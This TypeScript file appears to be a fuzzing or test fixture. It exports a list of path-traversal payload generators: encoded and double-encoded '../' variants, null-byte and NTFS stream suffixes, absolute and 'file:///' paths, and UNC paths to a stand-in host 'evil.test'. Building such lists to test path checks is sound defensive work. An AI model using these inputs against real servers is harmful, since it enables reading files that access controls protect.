type Climb = (target: string) => string;

/** Steps upwards, as they are written to get past a check that knows fewer spellings than the file system. */
const steps = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '..\\',
  '%252e%252e%252f',
  '..%252f',
  '....//',
  '..;/',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..%u2215',
  '．．/',
  '..%00/',
  './../',
  '.%2e/',
  '%2e./',
  '..//',
  '..%09/',
];

/** Ways to write a path that leads elsewhere, most to the point first. */
export const strangePaths: Climb[] = [
  ...steps.map(
    (step): Climb =>
      (target) =>
        step.repeat(6) + target,
  ),
  (target) => `/${target}`,
  (target) => `//${target}`,
  (target) => `%2f${target}`,
  (target) => `%2f%2f${target}`,
  (target) => `C:\\${target}`,
  (target) => `C:%5c${target}`,
  (target) => `\\\\evil.test\\c$\\${target}`,
  (target) => `//evil.test/c$/${target}`,
  (target) => `file:///${target}`,
  (target) => `${target}%00.js`,
  (target) => `${target}%00.html`,
  (target) => `${target}%20`,
  (target) => `${target}::$DATA`,
  (target) => `${target}/.`,
  (target) => `.${target}`,
  (target) => `x/${'../'.repeat(8)}${target}`,
  (target) => `index-x.js/${'../'.repeat(8)}${target}`,
  (target) => `x%2f${'..%2f'.repeat(8)}${target}`,
  (target) => `?/${'../'.repeat(6)}${target}`,
  (target) => `#/${'../'.repeat(6)}${target}`,
  (target) => `${'/'.repeat(50)}${target}`,
  (target) => `${'./'.repeat(100)}${'../'.repeat(6)}${target}`,
];
